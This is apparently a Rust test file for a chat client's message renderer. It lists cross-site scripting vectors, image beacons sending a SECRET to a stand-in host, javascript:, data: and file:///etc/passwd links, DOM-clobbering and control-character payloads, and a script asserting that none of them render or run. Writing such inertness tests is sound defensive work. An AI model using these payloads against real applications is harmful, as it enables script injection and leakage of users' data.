//! Strings that an attacker would put into a message, and the check that they stayed text.
//!
//! The vectors follow the families that have broken chat clients: raw HTML, script and data URLs, reference links,
//! remote images, attribute break-outs, info strings, DOM clobbering, control characters.

use serde_json::Value;

use crate::page::Page;

/// A host that nobody may speak to. Reserved by RFC 2606, so that nothing could answer.
pub const CANARY: &str = "canary.invalid";

/// One string a vector; `group` is its family.
pub const VECTORS: &[(&str, &str)] = &[
    ("html", "<img src=x onerror=\"window.__pwned=1\">"),
    ("html", "<svg/onload=window.__pwned=1>"),
    ("html", "<script>window.__pwned=1</script>"),
    ("html", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>"),
    ("html", "<math><mtext></p><img src=x onerror=window.__pwned=1></mtext></math>"),
    (
        "script url",
        "[x](javascript:window.__pwned=1) [x](JaVaScRiPt:alert(1)) [x](java&#x0A;script:alert(1))",
    ),
    ("script url", "[x](&#106;avascript:alert(1)) [x](\u{1}javascript:alert(1)) [x](java%0ascript:alert(1))"),
    (
        "data url",
        "[x](data:text/html,<script>parent.__pwned=1</script>) [x](vbscript:x) [x](blob:x) [x](file:///etc/passwd)",
    ),
    (
        "data url",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) <data:text/html,x> [x](intent://x)",
    ),
    ("reference", "[x][a] ![x][img]\n\n[a]: javascript:alert(1)\n[img]: https://canary.invalid/?q=SECRET"),
    ("reference", "<javascript:alert(1)> www.canary.invalid [^1]\n\n[^1]: ![x](https://canary.invalid/f)"),
    (
        "remote image",
        "![x](https://canary.invalid/p.png?d=SECRET) ![x](//canary.invalid/p) ![x](http://canary.invalid:1/p)",
    ),
    (
        "remote image",
        "<img srcset=\"https://canary.invalid/p 1x\"><link rel=prefetch href=\"https://canary.invalid/l\">",
    ),
    (
        "remote image",
        "<video poster=\"https://canary.invalid/v\"></video><p style=\"background:url(https://canary.invalid/c)\">p</p>",
    ),
    (
        "break-out",
        "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\") ![\" onerror=alert(1) \"](https://canary.invalid/)",
    ),
    (
        "info string",
        "```js\" onload=\"alert(1)\ncode\n```\n\n```\"><img src=x onerror=window.__pwned=1>\ncode\n```",
    ),
    ("clobbering", "# innerHTML\n\n<form name=body><input name=attributes></form>\n\n[x](#__proto__)"),
    ("clobbering", "| a <b>x</b> | `<i>` |\n| --- | --- |\n| <form id=location> | <a name=document> |"),
    (
        "formula",
        r"$\href{javascript:alert(1)}{x}$ $\label{body}\ref{body} x$ $\style{position:fixed}{x}$ $\id{location}{x}$ $\text{<img src=x onerror=window.__pwned=1>}$",
    ),
    (
        "control",
        "\u{202e}gnp.exe \u{2066}x\u{2069} \u{200d} \u{e0041}\u{e0042} a\u{0301}\u{0301}\u{0301}\u{0301}",
    ),
    ("control", "\u{1b}]8;;javascript:alert(1)\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{1b}[2J\u{7}"),
];

/// Lists in the page whatever a hostile string may not bring about.
const FORBIDDEN: &str = r#"
const tags = new Set(['A','ARTICLE','ASIDE','B','BLOCKQUOTE','BODY','BR','BUTTON','CIRCLE','CODE','DEFS','DEL','DETAILS','DIALOG','DIV','DL','DT','DD',
  'EM','FIELDSET','FOOTER','FORM','G','H1','H2','H3','H4','H5','H6','HEADER','HR','I','IMG','INPUT','KBD','LABEL','LEGEND','LI','MAIN','NAV','OL','OPTION',
  'OUTPUT','P','PATH','PRE','RECT','S','SECTION','SELECT','SMALL','SPAN','STRONG','SUMMARY','SUP','SVG','TABLE','TBODY','TD','TEXTAREA','TH','THEAD',
  'TIME','TR','UL','USE','LINE','POLYLINE','NOSCRIPT']);
const attributes = /^(class|href|rel|target|referrerpolicy|title|start|checked|disabled|type|role|tabindex|lang|dir|alt|src|value|open|hidden|datetime|name|for|min|max|step|rows|placeholder|width|height|viewBox|d|cx|cy|r|rx|ry|x|y|x1|x2|y1|y2|points|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|aria-[a-z]+|data-[a-z-]+|id|style|colspan|scope|method|enterkeyhint|inputmode|autocapitalize|autocomplete|spellcheck|multiple|decoding|maxlength|focusable|xmlns|contenteditable|download|autofocus|list|inert|closedby)$/i;
// What a typeset formula is made of; it has styles, but neither names nor addresses.
const formula = /^(math|mrow|mi|mn|mo|mtext|mspace|mfrac|msqrt|mroot|mstyle|mpadded|mphantom|msub|msup|msubsup|munder|mover|munderover|mmultiscripts|mprescripts|mtable|mtr|mtd|menclose)$/;
const wrong = [];
for (const e of document.body.querySelectorAll('*')) {
  if (e.namespaceURI === 'http://www.w3.org/1998/Math/MathML' && e.closest('[data-row] .math > math')) {
    if (!formula.test(e.localName)) wrong.push('formula with ' + e.localName);
    for (const { name } of e.attributes) if (/^(on|id$|name$|href$|src$|xlink)/i.test(name)) wrong.push('formula with ' + name);
    continue;
  }
  if (!tags.has(e.tagName.toUpperCase())) wrong.push('element ' + e.tagName);
  const inRow = e.closest('[data-row]') !== null;
  for (const { name, value } of e.attributes) {
    if (!attributes.test(name) || /^on/i.test(name)) wrong.push('attribute ' + name + ' on ' + e.tagName);
    if (inRow && (name === 'style' || ((name === 'id' || name === 'name') && /innerHTML|body|location|document|attributes|__proto__/.test(value)))) wrong.push(name + '=' + value);
    if (name === 'href' && inRow && !/^(https?:|mailto:|tel:|#)/i.test(value)) wrong.push('href ' + value);
    if (name === 'src' && !/^(data:image\/(png|jpeg|gif|webp)[;,]|blob:|\/)/i.test(value)) wrong.push('src ' + value);
  }
}
if (window.__pwned !== undefined) wrong.push('script ran');
return [...new Set(wrong)];
"#;

impl Page {
    /// Asserts that no hostile string became more than text.
    ///
    /// # Errors
    /// With everything that it became.
    pub async fn assert_inert(&self) -> anyhow::Result<()> {
        let wrong: Vec<String> = serde_json::from_value(self.script(FORBIDDEN, vec![]).await?)?;
        anyhow::ensure!(wrong.is_empty(), "hostile text became: {}", wrong.join(", "));
        Ok(())
    }

    /// The number of elements that match.
    ///
    /// # Errors
    /// When the page does not answer.
    pub async fn count(&self, selector: &str) -> anyhow::Result<usize> {
        let count = "return document.querySelectorAll(arguments[0]).length";
        Ok(serde_json::from_value(self.script(count, vec![Value::from(selector)]).await?)?)
    }
}
